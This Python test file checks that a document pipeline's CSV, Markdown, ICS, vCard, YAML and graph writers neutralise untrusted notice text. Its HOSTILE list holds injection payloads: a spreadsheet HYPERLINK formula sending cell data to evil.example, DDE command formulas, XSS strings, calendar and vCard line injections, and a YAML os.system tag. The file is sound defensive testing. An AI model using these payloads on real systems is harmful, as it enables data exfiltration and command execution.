"""Notice text is untrusted: formulas, HTML, ICS and YAML look-alikes and control characters in every
field must come out of every writer as inert text."""
import copy
import csv
import io
import json
import re

import pytest
import yaml

from pipeline.safe import CONTROL_RE, csv_cell, md, strip_controls, term

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "[链接](javascript:alert(1))",
    "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:伪造事件",
    "END:VCARD\nBEGIN:VCARD\nFN:伪造",
    "key: value\n- item\n!!python/object/apply:os.system ['id']",
    "--- &a [*a, *a]",
    'quote " and \\ backslash; comma, semicolon',
    "NUL\x00 ESC\x1b[31m BEL\x07 C1\x85\x9b DEL\x7f",
    "bidi \u202eevil\u202c and \u2066iso\u2069, LRM\u200e",
    "lone surrogate \ud800 here",
]


def _hostile_record(base: dict, i: int) -> dict:
    """A record whose every text field carries hostile strings."""
    h = lambda k: HOSTILE[(i + k) % len(HOSTILE)] + f" 通知{i}-{k}"
    rec = copy.deepcopy(base)
    rec["id"] = f"hostile_{i}"
    rec["source"]["path"] = h(0) + ".txt"
    rec["title"], rec["issuer"], rec["doc_number"] = h(1), h(2), h(3) + f"〔2022〕{i}号"
    rec["themes"] = [h(4)]
    rec["recipients"] = [h(5)]
    for j, d in enumerate(rec.get("deadlines") or []):
        d.update({"what": h(6 + j), "submit_to": h(7), "materials": [h(8)], "wording": h(9), "channel": h(10),
                  "evidence": {**(d.get("evidence") or {}), "text": h(11)}})
    for e in rec.get("events") or []:
        e.update({"what": h(12), "place": h(13), "evidence": {**(e.get("evidence") or {}), "text": h(14)}})
    rec["contacts"] = [{"name": h(15), "org": h(16), "phones": [h(1)], "emails": [h(2)], "evidence": {"text": h(3)}}]
    rec["cites"] = [{"doc_number": h(4), "title": h(5), "issuer": h(6), "evidence": {"text": h(7)}}]
    rec["text"] = "\n".join(HOSTILE)
    rec["evidence"] = {**(rec.get("evidence") or {}), "topics": {t: {"text": h(8)} for t in rec.get("topics") or []}}
    return rec


@pytest.fixture(scope="module")
def hostile_out(corpus_records, tmp_path_factory):
    from pipeline.record import write_record

    out = tmp_path_factory.mktemp("hostile")
    bases = [corpus_records[k] for k in ("002_fc2eac345f00a229", "101_moe_2022_lifelong_week", "004_2a45d8b675625f29")]
    for i in range(len(HOSTILE)):
        write_record(_hostile_record(bases[i % 3], i), out)
    return out


def _no_controls(text: str, where: str):
    bad = [c for c in CONTROL_RE.findall(text) if c not in "\r"]
    assert not bad, (where, bad[:5])


def test_records_yaml_is_inert(hostile_out):
    for p in (hostile_out / "notices").glob("*.yaml"):
        text = p.read_text(encoding="utf-8")
        _no_controls(text, p.name)
        rec = yaml.safe_load(text)  # safe_load: !!python tags would raise, so none may be live
        assert rec["title"].startswith(tuple(strip_controls(h)[:5] for h in HOSTILE))
        assert isinstance(rec["text"], str) and "!!python" in rec["text"]


def test_csv_cells_never_start_a_formula(hostile_out):
    from pipeline.calendar import write_calendar
    from pipeline.compare import compare_all

    items = write_calendar(hostile_out)
    assert items
    compare_all(hostile_out)
    for name in ("deadlines.csv", "contacts.csv", "compare/matrix.csv"):
        text = (hostile_out / name).read_text(encoding="utf-8-sig")
        _no_controls(text.replace("\r\n", "\n"), name)
        rows = list(csv.reader(io.StringIO(text)))
        assert len(rows) > 1, name
        for row in rows:
            for cell in row:
                # a tab may lead a phone number on purpose (pipeline/sheets.py), never a formula
                assert not cell.lstrip("\t\r ").startswith(("=", "+", "-", "@")), (name, cell)


def test_markdown_reports_escape_html_and_markdown(hostile_out):
    from pipeline.compare import compare_all

    compare_all(hostile_out)
    for p in (hostile_out / "compare").glob("*.md"):
        text = p.read_text(encoding="utf-8")
        _no_controls(text, p.name)
        assert not re.search(r"<\s*(script|img)", text, re.I), p.name
        assert not re.search(r"(?<!\\)\]\(javascript:", text)  # an escaped \] is no link


def test_ics_has_only_the_real_events(hostile_out):
    from icalendar import Calendar

    from pipeline.calendar import write_calendar

    items = write_calendar(hostile_out)
    raw = (hostile_out / "calendar.ics").read_bytes()
    _no_controls(raw.decode("utf-8").replace("\r\n", "\n"), "calendar.ics")
    cal = Calendar.from_ical(raw)
    events = [c for c in cal.walk("VEVENT")]
    assert len(events) == len(items)
    assert len({str(e["UID"]) for e in events}) == len(events)
    assert not any(str(e["SUMMARY"]) == "伪造事件" for e in events)


def test_vcards_parse_back_one_per_person(hostile_out):
    import vobject

    from pipeline.calendar import directory, merge_copies, write_calendar
    from pipeline.record import read_records

    write_calendar(hostile_out)
    text = (hostile_out / "contacts.vcf").read_text(encoding="utf-8")
    _no_controls(text.replace("\r\n", "\n"), "contacts.vcf")
    cards = list(vobject.readComponents(text))
    assert len(cards) == len(directory(merge_copies(read_records(hostile_out))))
    assert not any(c.fn.value == "伪造" for c in cards)


def test_graph_files_parse_back(hostile_out):
    import networkx as nx

    from pipeline.graph import write_graph

    g = write_graph(hostile_out)
    for name in ("graph.graphml", "graph.json", "graph.dot"):
        _no_controls((hostile_out / name).read_text(encoding="utf-8"), name)
    h = nx.read_graphml(hostile_out / "graph.graphml")
    assert h.number_of_nodes() == g.number_of_nodes()
    json.loads((hostile_out / "graph.json").read_text(encoding="utf-8"))
    for line in (hostile_out / "graph.dot").read_text(encoding="utf-8").splitlines()[3:-1]:
        assert line.endswith("];"), line  # no label broke out of its quotes


@pytest.mark.parametrize("value", HOSTILE)
def test_helpers(value):
    assert not csv_cell(value).startswith(("=", "+", "-", "@", "\t", "\r"))
    assert "<" not in md(value) and "\n" not in md(value)
    assert not CONTROL_RE.search(term(value))
    assert "\n" not in term(value)
